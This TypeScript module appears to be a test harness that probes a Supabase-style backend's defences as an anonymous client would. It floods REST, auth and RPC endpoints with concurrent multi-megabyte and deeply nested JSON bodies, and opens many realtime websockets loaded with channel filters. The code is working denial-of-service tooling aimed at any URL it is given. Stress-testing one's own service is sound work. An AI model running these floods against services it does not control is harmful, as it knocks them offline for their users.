// Attacks of strangers by the size and number of what they send; each returns what the server answered.
import { WebSocket } from 'ws'

export interface Target {
  url: string
  anonKey: string
}

type Answers = Record<string, number>

const count = (answers: readonly unknown[]): Answers =>
  Object.fromEntries([...Map.groupBy(answers, String)].map(([answer, all]) => [answer, all.length]))

async function post({ url, anonKey }: Target, path: string, type: string, body: BodyInit): Promise<number | string> {
  const headers = { apikey: anonKey, 'content-type': type }
  const response = await fetch(url + path, { method: 'POST', headers, body }).catch((error) => error)
  return response instanceof Response ? response.status : 'no answer'
}

const MEGABYTE = 2 ** 20

/** Bodies of 1 to 19 MB, to a table that takes none of them and to a function, eight at once. */
export async function sendLargeBodies(target: Target): Promise<Answers> {
  const csv = `name\n${'a\n'.repeat(7.5 * MEGABYTE)}`
  const brackets = '['.repeat(19 * MEGABYTE)
  const lists = `{"_token":[${'[],'.repeat(80_000)}[]]}`
  const sent = [
    ...Array.from({ length: 3 }, () => post(target, '/rest/v1/teams', 'text/csv', csv)),
    ...Array.from({ length: 3 }, () => post(target, '/rest/v1/rpc/check_invitation', 'application/json', brackets)),
    ...Array.from({ length: 20 }, () => post(target, '/rest/v1/rpc/check_invitation', 'application/json', lists)),
    ...Array.from({ length: 5 }, () => post(target, '/auth/v1/signup', 'application/json', brackets)),
  ]
  return count(await Promise.all(sent))
}

/** Arguments that nest 7,000 lists. */
export async function sendDeepArguments(target: Target): Promise<Answers> {
  const body = `{"_token":${'['.repeat(7_000)}${']'.repeat(7_000)}}`
  return count(
    await Promise.all(
      Array.from({ length: 20 }, () => post(target, '/rest/v1/rpc/check_invitation', 'application/json', body)),
    ),
  )
}

/** Sockets with 100 channels of 90 filters of two kilobytes each. @returns what the joins were answered with */
export async function openHeavySockets({ url, anonKey }: Target, sockets = 26): Promise<Answers> {
  const filters = Array.from({ length: 90 }, (_, at) => ({
    ...{ event: '*', schema: 'public', table: 'matches' },
    filter: `id=eq.${at}${'x'.repeat(2_000)}`,
  }))
  const answers: string[] = []
  const open = async () => {
    const socket = new WebSocket(`${url.replace('http', 'ws')}/realtime/v1/websocket?apikey=${anonKey}&vsn=2.0.0`)
    let left = 100
    const done = Promise.withResolvers<void>()
    socket.on('message', (data) => {
      const [, , , event, payload] = JSON.parse(String(data))
      if (event !== 'phx_reply') return
      answers.push(payload.status === 'ok' ? 'ok' : payload.response.reason)
      if (--left === 0) done.resolve()
    })
    socket.on('error', () => done.resolve())
    socket.on('close', (code) => {
      answers.push(`closed ${code}`)
      done.resolve()
    })
    await new Promise((resolve) => socket.once('open', resolve).once('error', resolve))
    for (let at = 0; at < 100; at++) {
      socket.send(
        JSON.stringify([`${at}`, `${at}`, `realtime:${at}`, 'phx_join', { config: { postgres_changes: filters } }]),
      )
      await new Promise((resolve) => setTimeout(resolve, 15))
    }
    await Promise.race([done.promise, new Promise((resolve) => setTimeout(resolve, 20_000))])
    return socket
  }
  const opened = await Promise.all(Array.from({ length: sockets }, open))
  const found = count(answers)
  for (const socket of opened) socket.terminate()
  return found
}
